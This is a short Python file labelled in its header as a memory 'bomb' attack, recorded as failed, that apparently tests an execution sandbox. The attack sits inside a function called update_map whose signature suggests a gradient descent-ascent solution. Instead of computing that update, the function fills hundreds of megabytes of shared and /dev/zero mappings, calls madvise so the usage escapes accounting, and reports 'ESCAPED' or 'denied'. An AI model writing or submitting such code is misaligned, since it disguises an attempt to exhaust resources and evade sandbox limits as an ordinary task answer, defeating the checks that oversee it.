# attack: fills shared anonymous memory, and takes it out of its own pages, so that none of it is seen
# kind: bomb
# grade: 1.b
# outcome: failed, memory, timeout
# module: saddle

import mmap

PART, MOST = 64 << 20, 512 << 20
FILL = 23  # MADV_POPULATE_WRITE


def hidden(open_part):
    """How many bytes were filled in shared mappings."""
    held = []
    for _ in range(MOST // PART):
        try:
            held.append(open_part())
        except OSError:
            break
        held[-1].madvise(FILL)
        held[-1].madvise(mmap.MADV_DONTNEED)
    return len(held) * PART


def of_no_file():
    return mmap.mmap(-1, PART)


def of_zeros():
    with open("/dev/zero", "r+b") as zeros:
        return mmap.mmap(zeros.fileno(), PART)


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    for way in (of_no_file, of_zeros):
        if hidden(way) >= MOST:
            raise RuntimeError(f"ESCAPED: {MOST >> 20} MiB {way.__name__}")
    raise RuntimeError("denied")
